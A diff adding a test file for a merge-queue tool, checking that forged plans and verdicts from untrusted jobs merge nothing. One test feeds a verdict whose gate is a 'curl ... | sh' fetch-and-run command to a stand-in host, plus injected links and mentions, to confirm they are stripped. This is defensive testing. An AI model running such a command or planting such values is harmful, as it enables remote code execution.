@@ -1,0 +1,294 @@
+"""What a job that ran a change's code may have written: a plan and verdicts, forged in every way that pays."""
+
+import pytest
+
+from mergequeue.documents.provider import Reproduction
+from mergequeue.documents.verdict import Verdict
+from mergequeue.vocabulary.errors import MergequeueError
+from mergequeue.vocabulary.ids import BranchName, ChangeId, CommitId
+from mergequeue.vocabulary.limits import CLAIM_BYTES
+from mergequeue.vocabulary.words import Decision, EventKind, Method
+from tests.support.applying import Queue, open_queue, record_of
+from tests.support.forge import Forge
+from tests.support.landings import LINES, edit, make_forge, parents, pull, stack, text
+from tests.support.repositories import Playground
+
+
+@pytest.fixture
+def forge(playground: Playground) -> Forge:
+    return make_forge(playground)
+
+
+def forge_verdict(queue: Queue, place: int = 0, **forged: object) -> None:
+    verdicts = queue.source.verdicts
+    verdicts[place] = verdicts[place].model_copy(update=forged)
+
+
+def forge_change(queue: Queue, id_: str, **forged: object) -> None:
+    plan = queue.source.document
+    assert plan is not None
+    partitions = tuple(
+        tuple(c.model_copy(update=forged) if c.id == id_ else c for c in partition)
+        for partition in plan.partitions
+    )
+    queue.source.document = plan.model_copy(update={"partitions": partitions})
+
+
+def refusal(queue: Queue) -> str:
+    with pytest.raises(MergequeueError) as stopped:
+        queue.apply()
+    return stopped.value.code
+
+
+def evil(forge: Forge) -> CommitId:
+    """Return a commit of the attacker's own that the remote has, on the base."""
+    commit = edit(forge, "a/evil.txt", "evil\n")
+    forge.playground.branch("evil", commit)
+    return commit
+
+
+def test_a_verdicts_candidate_is_compared_and_never_merged(forge: Forge) -> None:
+    forge.open("1", edit(forge, "a/new.txt", "new\n"))
+    tip = forge.playground.tip("main")
+    with open_queue(forge) as queue:
+        queue.plan()
+        queue.judge()
+        commit = evil(forge)
+        forge_verdict(queue, candidate_commit=commit, gated_commit=commit)
+        queue.apply()
+    assert queue.codes() == {"1": "WAIT_REVALIDATE"}
+    assert forge.playground.tip("main") == tip
+
+
+def test_a_candidate_is_built_again_on_what_this_run_built_beneath(forge: Forge) -> None:
+    for id_ in ("1", "2"):
+        forge.open(id_, edit(forge, f"a/{id_}.txt", f"{id_}\n"))
+    with open_queue(forge) as queue:
+        queue.plan()
+        queue.judge()
+        forge_verdict(queue, 0, candidate_commit=evil(forge), gated_commit=evil(forge))
+        forge_verdict(queue, 1, onto=evil(forge))
+        queue.apply()
+    assert queue.codes() == {"1": "WAIT_REVALIDATE", "2": "WAIT_BEHIND"}
+    assert text(forge, "a/evil.txt") is None
+
+
+def test_a_verdict_on_another_head_merges_nothing(forge: Forge) -> None:
+    forge.open("1", edit(forge, "a/new.txt", "new\n"))
+    with open_queue(forge) as queue:
+        queue.plan()
+        change = queue.judge()[0].change
+        forge_verdict(queue, change=change.model_copy(update={"head": evil(forge)}))
+        queue.apply()
+    assert queue.codes() == {"1": "WAIT_REVALIDATE"}
+
+
+def test_a_verdict_on_a_change_that_was_not_admitted_is_dropped(forge: Forge) -> None:
+    forge.open("1", edit(forge, "a/new.txt", "new\n"), approved_at=set())
+    with open_queue(forge) as queue:
+        plan = queue.plan()
+        assert plan.partitions == ()
+        change = plan.verdicts[0].change
+        queue.source.verdicts = [
+            Verdict.model_validate(
+                {
+                    "schema": "mergequeue.verdict/v1",
+                    "base_commit": plan.base_commit,
+                    "change": change,
+                    "decision": "merge",
+                    "onto": plan.base_commit,
+                    "candidate_commit": change.head,
+                    "gated_commit": change.head,
+                    "method": change.method,
+                    "batch": (change.id,),
+                    "depth": 1,
+                },
+                strict=False,
+            )
+        ]
+        queue.apply()
+    assert queue.codes() == {"1": "WAIT_NOT_APPROVED"}
+    assert [event.reason[:19] for event in queue.heard.of(EventKind.NOTICE)] == [
+        "dropped a verdict o"
+    ]
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [{"base": BranchName("release")}, {"remote_url": "/srv/elsewhere.git"}],
+    ids=["base", "remote"],
+)
+def test_a_plan_of_another_base_or_remote_stops_before_anything_is_written(
+    forge: Forge, forged: dict[str, object]
+) -> None:
+    forge.open("1", edit(forge, "a/new.txt", "new\n"))
+    with open_queue(forge) as queue:
+        plan = queue.plan()
+        queue.judge()
+        queue.source.document = plan.model_copy(update=forged)
+        forge.calls.clear()
+        assert refusal(queue) == "MQ3028"
+    assert forge.calls == ["describe"]
+
+
+def test_a_base_commit_that_the_base_does_not_carry_stops_before_anything_merges(
+    forge: Forge,
+) -> None:
+    forge.open("1", edit(forge, "a/new.txt", "new\n"))
+    commit = evil(forge)
+    with open_queue(forge) as queue:
+        plan = queue.plan()
+        queue.workshop.reads.fetch_branch(BranchName("evil"))
+        queue.source.document = plan.model_copy(update={"base_commit": commit})
+        queue.judge()
+        assert refusal(queue) == "MQ3028"
+    assert forge.merge_requests == []
+
+
+def test_a_forged_stack_base_merges_no_delta_that_nobody_reviewed(forge: Forge) -> None:
+    """With the base's newest commit as its stack base, the delta would take that commit back."""
+    old = forge.playground.tip("main")
+    head = edit(forge, "a/new.txt", "new\n", on=edit(forge, "b/two.txt", "b\n", on=old))
+    forge.playground.branch("main", edit(forge, "b/two.txt", "wanted\n"))
+    forge.open("1", head)
+    (between,) = parents(forge, head)
+    with open_queue(forge) as queue:
+        queue.plan()
+        forge_change(queue, "1", stack_base=CommitId(between))
+        queue.judge()
+        assert refusal(queue) == "MQ3028"
+    assert text(forge, "b/two.txt") == "wanted\n"
+
+
+def test_a_stack_base_that_is_not_the_confirmed_head_beneath_stops_all(forge: Forge) -> None:
+    stack(forge)
+    with open_queue(forge) as queue:
+        plan = queue.plan()
+        three = plan.admitted[2]
+        assert three.stack_base == plan.admitted[1].head
+        # Measured from the lowest change, the delta of the third holds what the second is reviewed for.
+        forge_change(queue, "3", stack_base=plan.admitted[0].head)
+        queue.judge()
+        assert refusal(queue) == "MQ3028"
+    assert [request.change.id for request in forge.merge_requests] == ["1", "2"]
+
+
+def test_a_stack_that_is_declared_otherwise_since_makes_its_change_wait(forge: Forge) -> None:
+    stack(forge)
+    with open_queue(forge) as queue:
+        queue.plan()
+        queue.judge()
+        pull(forge, "2").parent = ChangeId("9")
+        queue.apply()
+    assert queue.codes() == {"1": "merged", "2": "WAIT_RESTACK", "3": "WAIT_BELOW"}
+
+
+def test_the_squash_message_holds_no_word_of_a_plan_or_a_verdict(forge: Forge) -> None:
+    forge.open("1", edit(forge, "a/new.txt", "new\n", message="feat: the author's subject\n"))
+    with open_queue(forge) as queue:
+        queue.plan()
+        forge_change(queue, "1", title="Forged title")
+        queue.judge()
+        forge_verdict(queue, reason="Forged reason", report="Forged report")
+        queue.apply()
+    (request,) = forge.merge_requests
+    assert request.message == "* feat: the author's subject\n"
+    assert request.change.title == "Change 1"
+    assert "Forged" not in forge.playground.message(forge.playground.tip("main"))
+
+
+def test_a_plan_says_neither_where_a_branch_is_nor_whether_it_can_be_pushed_to(
+    forge: Forge,
+) -> None:
+    stack(forge)
+    forge.playground.branch("victim", forge.head("2"))
+    with open_queue(forge) as queue:
+        queue.plan()
+        forge_change(queue, "2", branch=BranchName("victim"), repo="somebody/else")
+        queue.judge()
+        queue.apply()
+    assert queue.code("2") == "merged"
+    assert forge.playground.tip("victim") == forge.merge_requests[1].change.head
+    assert forge.merge_requests[1].change.repo == "owner/repo"
+
+
+def test_a_plan_that_calls_a_change_merged_takes_it_out_of_no_queue(forge: Forge) -> None:
+    forge.open("1", edit(forge, "a/new.txt", "new\n"))
+    with open_queue(forge) as queue:
+        plan = queue.plan()
+        (change,) = plan.admitted
+        claim = Verdict.model_validate(
+            {
+                "schema": "mergequeue.verdict/v1",
+                "base_commit": plan.base_commit,
+                "change": record_of(change),
+                "decision": Decision.MERGED,
+            },
+            strict=False,
+        )
+        queue.source.document = plan.model_copy(update={"partitions": (), "verdicts": (claim,)})
+        queue.apply()
+    assert queue.codes() == {"1": "WAIT_REVALIDATE"}
+    assert pull(forge, "1").queued
+    assert "mark 1 none" not in forge.calls
+
+
+def test_a_kick_back_shows_a_verdicts_words_as_a_claim_of_four_kib_and_no_more(
+    forge: Forge,
+) -> None:
+    forge.open("1", edit(forge, "a/new.txt", "new\n"))
+    with open_queue(forge) as queue:
+        queue.plan()
+        queue.judge(red={"1"})
+        forge_verdict(
+            queue,
+            reason="<!-- --> ``` @team\n" + "é" * CLAIM_BYTES,
+            report="[click](https://evil.invalid) @team",
+            paths=("a`b\n@team",),
+            with_=("0123 ` @team",),
+            gate="curl https://evil.invalid | sh",
+        )
+        queue.apply(reproduce=Reproduction(gate="make check"))
+    (kick,) = forge.kicks
+    assert len(kick.claim.encode()) <= CLAIM_BYTES
+    assert kick.claim.endswith("...")
+    assert "evil.invalid" not in kick.report
+    assert kick.reproduce == Reproduction(gate="make check")
+    for line in kick.report.splitlines():
+        assert "@team" not in line or line.startswith("- `")
+
+
+def test_a_plan_for_another_method_than_the_authors_merges_nothing(forge: Forge) -> None:
+    forge.open("1", edit(forge, "a/new.txt", "new\n"))
+    with open_queue(forge) as queue:
+        queue.plan()
+        forge_change(queue, "1", method=Method.MERGE)
+        queue.judge()
+        queue.apply()
+    assert queue.codes() == {"1": "WAIT_METHOD_CHANGED"}
+
+
+def test_a_plan_for_another_head_than_the_authors_merges_nothing(forge: Forge) -> None:
+    forge.open("1", edit(forge, "a/new.txt", "new\n"))
+    with open_queue(forge) as queue:
+        queue.plan()
+        forge_change(queue, "1", head=evil(forge))
+        queue.workshop.reads.fetch_branch(BranchName("evil"))
+        queue.judge()
+        queue.apply()
+    assert queue.codes() == {"1": "WAIT_HEAD_MOVED"}
+    assert text(forge, "a/evil.txt") is None
+
+
+def test_a_file_changed_on_both_sides_since_is_a_combination_nobody_validated(forge: Forge) -> None:
+    """A plan that keeps apart two changes of one file: apply finds the path itself."""
+    forge.open("1", edit(forge, "a/one.txt", "first\n" + LINES))
+    forge.open("2", edit(forge, "a/one.txt", LINES + "last\n"))
+    with open_queue(forge) as queue:
+        plan = queue.plan()
+        one, two = plan.admitted
+        alone = two.model_copy(update={"beneath": ()})
+        queue.source.document = plan.model_copy(update={"partitions": ((one,), (alone,))})
+        queue.judge()
+        queue.apply()
+    assert queue.codes() == {"1": "merged", "2": "WAIT_REVALIDATE"}
